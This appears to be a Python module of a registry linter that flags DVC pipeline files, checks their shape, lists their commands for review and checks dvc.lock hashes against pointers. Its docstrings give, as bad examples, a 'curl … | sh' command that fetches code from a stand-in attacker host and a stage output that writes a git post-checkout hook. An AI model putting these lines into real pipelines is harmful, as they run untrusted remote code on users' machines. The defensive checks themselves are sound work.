"""MY7xx, pipelines: what would DVC run in a version directory, and does its record agree?"""

from __future__ import annotations

from typing import TYPE_CHECKING

from modelyard.documents import yaml
from modelyard.documents.document import Fault, Unreadable
from modelyard.documents.pipeline import LOCK, PIPELINE
from modelyard.documents.pointer import SUFFIX
from modelyard.rules.finding import Finding
from modelyard.rules.stated import metadata_of

if TYPE_CHECKING:
    from collections.abc import Iterator

    from modelyard.documents.document import Document
    from modelyard.documents.pipeline import LockedOut
    from modelyard.documents.policy import Policy
    from modelyard.rules.finding import Findings
    from modelyard.version_directory import VersionDirectory

__all__ = ["commands", "lock_disagrees", "pipeline", "pipeline_shape"]

_LONGEST = 200


def pipeline(version: VersionDirectory, policy: Policy) -> Findings:
    """A version directory holds no pipeline of DVC, unless the policy allows pipelines.

    ``dvc repro`` runs every ``cmd`` of a ``dvc.yaml`` that it finds, on the machine of whoever calls it. So
    somebody has to look at it; the policy of the base decides, and a change cannot allow its own.

    Bad:
        # dvc.yaml
        stages: {train: {cmd: curl https://evil.example.org/x | sh}}
    Good:
        # registry.yaml on the base, where models are reproduced by DVC
        pipelines: {allow: true}
    """
    for name in (PIPELINE, LOCK):
        if name in version and not policy.pipelines:
            path = version.full_path(name)
            hint = f"git rm {path}; or allow them in a change of its own: `pipelines: {{allow: true}}` in registry.yaml"
            yield Finding(path, f"{name!r} is a pipeline, which DVC would run", hint)


def pipeline_shape(version: VersionDirectory, _policy: Policy) -> Findings:
    """A pipeline is plain: stages with commands, inputs and outputs, and outputs that stay in the directory.

    Bad:
        stages:
          train: {cmd: python train.py, wdir: ../.., outs: [.git/hooks/post-checkout]}
    Good:
        stages:
          train: {cmd: python train.py, deps: [../../train.py], outs: [model.joblib]}
    """
    from modelyard.documents.pipeline import faults_of_lock, faults_of_pipeline

    for name, faults_of in ((PIPELINE, faults_of_pipeline), (LOCK, faults_of_lock)):
        document = _document(version, name)
        hint = f"write {name} in the plain form, or remove it: git rm {version.full_path(name)}"
        if isinstance(document, Fault):
            message = f"{name} cannot be read: {document.message}"
            yield Finding(version.full_path(name), message, document.hint, document.position)
        elif document:
            for fault in faults_of(document):
                yield Finding(version.full_path(name), fault.message, hint, document.locate_key(fault.path))


def commands(version: VersionDirectory, policy: Policy) -> Findings:
    """Every command of a pipeline that the policy allows is shown to who reviews the change.

    Bad:
        cmd: curl https://evil.example.org/x | sh
    Good:
        cmd: python train.py
    """
    from modelyard.documents.pipeline import commands as commands_of

    document = _document(version, PIPELINE) if policy.pipelines else None
    if document and not isinstance(document, Fault):
        for place, stage, line in commands_of(document):
            shown = line if len(line) <= _LONGEST else f"{line[:_LONGEST]}…"
            message = f"`dvc repro` runs {shown!r} in stage {stage!r}"
            yield Finding(version.full_path(PIPELINE), message, "read it before you run it", document.locate(place))


def lock_disagrees(version: VersionDirectory, _policy: Policy) -> Findings:
    """What ``dvc.lock`` records of an output is what pointer and metadata state: MD5 and size.

    A lock of another run would say that these commands made this model, and they made another one.

    Bad:
        # dvc.lock
        outs: [{path: model.joblib, md5: 0cc175b9c0f1b6a831c399e269772661, size: 12}]
        # model.joblib.dvc
        outs: [{path: model.joblib, md5: a2d5d04c767f0300f5a849af0517910c, size: 25}]
    Good:
        # dvc.lock and model.joblib.dvc
        outs: [{path: model.joblib, md5: a2d5d04c767f0300f5a849af0517910c, size: 25}]
    """
    from modelyard.documents.pipeline import outs

    document = _document(version, LOCK)
    if not document or isinstance(document, Fault):
        return
    for out in outs(document):
        for key, message in _differences(version, out):
            place = document.locate((*out.place, key))
            hint = f"dvc repro and register what it makes, or remove the record: git rm {version.full_path(LOCK)}"
            yield Finding(version.full_path(LOCK), message, hint, place)


def _differences(version: VersionDirectory, out: LockedOut) -> Iterator[tuple[str, str]]:
    parsed, metadata = version.pointers.get(out.path + SUFFIX), metadata_of(version)
    pointer = parsed.value if parsed else None
    if metadata and out.path not in metadata.files and not pointer:
        yield "path", f"{out.path!r} is an output of the lock, and neither in `files` nor behind a pointer"
    if pointer and pointer.md5 != out.md5:
        yield "md5", f"`md5` of {out.path!r} is {out.md5}, but its pointer has {pointer.md5}"
    stated = pointer or (metadata.files.get(out.path) if metadata else None)
    if stated and out.size is not None and out.size != stated.size:
        yield "size", f"`size` of {out.path!r} is {out.size}, but {stated.size} is stated"


def _document(version: VersionDirectory, name: str) -> Document | Fault | None:
    content = version.content(name) if name in version else None
    if content is None or isinstance(content, Fault):
        return content
    try:
        return yaml.read(content)
    except Unreadable as unreadable:
        return unreadable.faults[0]
